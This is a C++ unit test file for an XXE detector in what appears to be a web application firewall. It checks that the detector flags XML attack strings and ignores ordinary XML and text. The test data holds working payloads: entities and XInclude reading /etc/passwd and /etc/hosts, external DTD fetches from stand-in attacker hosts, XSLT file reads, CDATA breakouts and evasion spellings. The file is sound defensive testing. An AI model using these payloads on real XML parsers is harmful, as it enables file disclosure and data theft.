#include <string>
#include <utility>
#include <vector>

#include "gtest/gtest.h"
#include "runtime/detect/detector.h"
#include "tests/unit/detect/detect_test_support.h"
#include "tests/unit/detect/detector_cases.h"

namespace fnguard::detect {
namespace {

using testing::Case;
using testing::Detects;

std::string Repeat(const std::string& s, size_t n) {
  std::string r;
  r.reserve(s.size() * n);
  for (size_t i = 0; i < n; ++i) r += s;
  return r;
}

TEST(XxeTest, DetectsAttacks) {
  const std::vector<std::string> attacks = {
      "<!DOCTYPE foo [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]><foo>&xxe;</foo>",
      "<!ENTITY % p SYSTEM \"http://attacker.example/e.dtd\"> %p;",
      "<!doctype r [\n <!entity\n a \"b\">]>",
      "<!DOCTYPE r SYSTEM \"http://attacker.example/x.dtd\"><r/>",
      "<r xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include href=\"file:///etc/passwd\"/></r>",
      "<!DOCTYPE svg [<!ENTITY a \"x\">]><svg>&a;</svg>",
  };
  for (const std::string& a : attacks) {
    Case c;
    c.value = a;
    EXPECT_TRUE(Detects(XxeDetector(), c)) << a;
    c.location = event::Location::kBody;
    c.path = "body.v";
    EXPECT_TRUE(Detects(XxeDetector(), c)) << a;
  }
}

TEST(XxeTest, IgnoresBenign) {
  const std::vector<std::string> benign = {
      "<?xml version=\"1.0\"?><order><id>1</id></order>",
      "<!DOCTYPE html><html></html>",
      "<!DOCTYPE svg PUBLIC \"-//W3C//DTD SVG 1.1//EN\" \"http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd\">",
      "Tom &amp; Jerry",
      "<p>Hello &copy; world</p>x",
  };
  for (const std::string& b : benign) {
    Case c;
    c.value = b;
    Match m;
    EXPECT_FALSE(Detects(XxeDetector(), c, &m)) << b << " -> " << m.rule_id;
    c.location = event::Location::kBody;
    c.path = "body.text";
    EXPECT_FALSE(Detects(XxeDetector(), c, &m)) << b << " -> " << m.rule_id;
  }
}

// One hand-made case per grammar family the detector knows, in the
// spellings an evasion would use.
TEST(XxeTest, DetectsEachFamily) {
  const std::vector<std::pair<std::string, std::string>> attacks = {
      {"<!DOCTYPE r PUBLIC \"http://www.w3.org/decoy\" \"http://evil.example/d.dtd\"><r/>",
       "xxe.external_dtd"},
      {"<!DOCTYPE r SYSTEM 'file:///srv/app/config.dtd'>", "xxe.external_dtd"},
      {"<!DOCTYPE plist SYSTEM \"http://www.apple.com.evil.example/p.dtd\">",
       "xxe.external_dtd"},
      {"<!ATTLIST order id CDATA #IMPLIED>", "xxe.dtd_markup"},
      {"<!ELEMENT order ANY>", "xxe.dtd_markup"},
      {"<!NOTATION gif SYSTEM \"viewer\">", "xxe.dtd_markup"},
      {"  <![CDATA[<role>admin</role>]]>", "xxe.cdata_fragment"},
      {"<![CDATA[</note><!DOCTYPE>]]>", "xxe.cdata_fragment"},
      {"bob]]><isAdmin>true</isAdmin><![CDATA[", "xxe.cdata_breakout"},
      {"x]]>  <?pi data?>", "xxe.cdata_breakout"},
      {"&ext1;", "xxe.entity_reference"},
      {" &a1;&b2; ", "xxe.entity_reference"},
      {"%remote;", "xxe.parameter_entity"},
      {"%r1; %r2;", "xxe.parameter_entity"},
      {"name(/descendant::*[1])", "xxe.xpath_axis"},
      {"//user[1]/child::text()", "xxe.xpath_axis"},
      {"') or /child::users or ('", "xxe.xpath_axis"},
      {"self::node()", "xxe.xpath_axis"},
      {"<?xml version=\"1.0\" encoding = 'UTF-7' ?>+ADw-r+AD4-", "xxe.utf7_declaration"},
      {"<svg xmlns:xlink=\"http://www.w3.org/1999/xlink\"><image xlink:href = "
       "\"file:///etc/hostname\"/></svg>",
       "xxe.external_reference"},
      {"<doc xml:base='jar:http://evil.example/a.jar!/'><a/></doc>", "xxe.external_reference"},
      {"<t:transform xmlns:t=\"http://www.w3.org/1999/XSL/Transform\"><t:value-of "
       "select=\"unparsed-text('/etc/hosts')\"/></t:transform>",
       "xxe.xslt_injection"},
      {"<xsl:stylesheet xmlns:msxsl=\"urn:schemas-microsoft-com:xslt\"><msxsl:script>x"
       "</msxsl:script></xsl:stylesheet>",
       "xxe.xslt_injection"},
      {"<a><b>&Custom_Ent;</b></a>", "xxe.entity_reference"},
  };
  testing::ExpectRules(XxeDetector(), attacks);
}

TEST(XxeTest, IgnoresEverydayXmlAndText) {
  const std::vector<std::string> benign = {
      "<!DOCTYPE HTML PUBLIC \"-//W3C//DTD HTML 4.01//EN\"><html></html>",
      "<!DOCTYPE html SYSTEM \"about:legacy-compat\">",
      "<!DOCTYPE systemd-unit><x/>",
      "<?xml version=\"1.0\"?><!DOCTYPE plist PUBLIC \"-//Apple//DTD PLIST 1.0//EN\" "
      "\"http://www.apple.com/DTDs/PropertyList-1.0.dtd\"><plist version=\"1.0\"/>",
      "<?xml version=\"1.0\" encoding=\"utf-16\"?><a>1</a>",
      "<?xml version=\"1.0\" encoding=\"ISO-8859-1\"?><a>1</a>",
      "<feed><entry><![CDATA[<p>Release notes</p>]]></entry></feed>",
      "<![CDATA[plain text only]]>",
      "R&D; team",
      "Fish & Chips;",
      "50%; rest later",
      "std::parent::node()",
      "Self::new() and self::helper",
      "use self::io;",
      "a[b[0]]> 3 and c < 4",
      "<a href=\"file:///C:/docs/readme.txt\">readme</a>",
      "<svg><use xlink:href=\"#icon-home\"/></svg>",
      "<xsl:template match=\"/\"><xsl:value-of select=\"title\"/></xsl:template>",
  };
  for (const std::string& b : benign) {
    Case c;
    c.value = b;
    Match m;
    EXPECT_FALSE(Detects(XxeDetector(), c, &m)) << b << " -> " << m.rule_id;
  }
}

// URL decoding may turn a bare parameter entity reference into other bytes;
// the raw value is what an XML parser downstream would see.
TEST(XxeTest, ChecksRawValueOfBareReferences) {
  const std::string raw = "%ab;";
  const std::string norm = "\xab;";
  Input in;
  in.raw = raw;
  in.norm = norm;
  in.mask = CharMask::Of(norm);
  in.path = "query.q";
  Match m;
  EXPECT_TRUE(XxeDetector().Inspect(in, &m));
  EXPECT_EQ(m.rule_id, "xxe.parameter_entity");
}

// A value that is only HTML's own named references is what rich-text
// editors and HTML escapers write ("&nbsp;" for an empty paragraph); any
// other name in such a value is an XML entity probe.
TEST(XxeTest, BareHtmlEntitiesAreText) {
  for (const char* v : {"&nbsp;", "&amp;", " &copy; ", "&hearts;", "&euro;&nbsp;", "&Eacute;",
                        "&apos;", "&mdash;&hellip;"}) {
    Case c;
    c.value = v;
    Input in;  // raw as written, normalized as the engine would (entity decoded)
    in.raw = c.value;
    in.norm = "x";
    in.mask = CharMask::Of(in.norm);
    in.path = "body.text";
    in.location = event::Location::kBody;
    Match m;
    EXPECT_FALSE(XxeDetector().Inspect(in, &m)) << v << " -> " << m.rule_id;
    EXPECT_FALSE(Detects(XxeDetector(), c, &m)) << v << " -> " << m.rule_id;
  }
  for (const char* v : {"&nbsp;&ext;", "&NBSP;", "&data1;", "&file;"}) {
    Case c;
    c.value = v;
    Match m;
    EXPECT_TRUE(Detects(XxeDetector(), c, &m)) << v;
    EXPECT_EQ(m.rule_id, "xxe.entity_reference") << v;
  }
}

TEST(XxeTest, CompletesOnPathologicalInput) {
  testing::RunsOnLargeInput(XxeDetector(), std::string(1 << 20, '<'));
  testing::RunsOnLargeInput(XxeDetector(), Repeat("<!", 1 << 19));
  testing::RunsOnLargeInput(XxeDetector(), Repeat("&a;", 1 << 18));
  testing::RunsOnLargeInput(XxeDetector(), "<a>" + Repeat("&Abcdefghij;", 1 << 16));
  testing::RunsOnLargeInput(XxeDetector(), Repeat("]]>", 1 << 18));
  testing::RunsOnLargeInput(XxeDetector(), Repeat("<![CDATA[", 1 << 17) + "]]>");
  testing::RunsOnLargeInput(XxeDetector(), Repeat("<!DOCTYPE ", 1 << 17));
  testing::RunsOnLargeInput(XxeDetector(), Repeat("/child::", 1 << 17));
  testing::RunsOnLargeInput(XxeDetector(), "<a:b>" + Repeat("xlink:href=", 1 << 16));
  testing::RunsOnLargeInput(XxeDetector(), Repeat("%a;", 1 << 18) + "x");
}

TEST(XxeTest, ReportsItsId) {
  EXPECT_EQ(Get(XxeDetector().id()).id(), XxeDetector().id());
}


TEST(XxeTest, XIncludeNeedsAnIncludeElement) {
  EXPECT_EQ(testing::RuleOf(XxeDetector(),
                            "<doc xmlns:xi=\"http://www.w3.org/2001/XInclude\"><p>a</p></doc>"),
            "");
  EXPECT_EQ(testing::RuleOf(XxeDetector(),
                            "<doc xmlns:z=\"http://www.w3.org/2001/XInclude\"><z:include "
                            "href=\"/etc/hosts\" parse=\"text\"/></doc>"),
            "xxe.xinclude");
}

}  // namespace
}  // namespace fnguard::detect
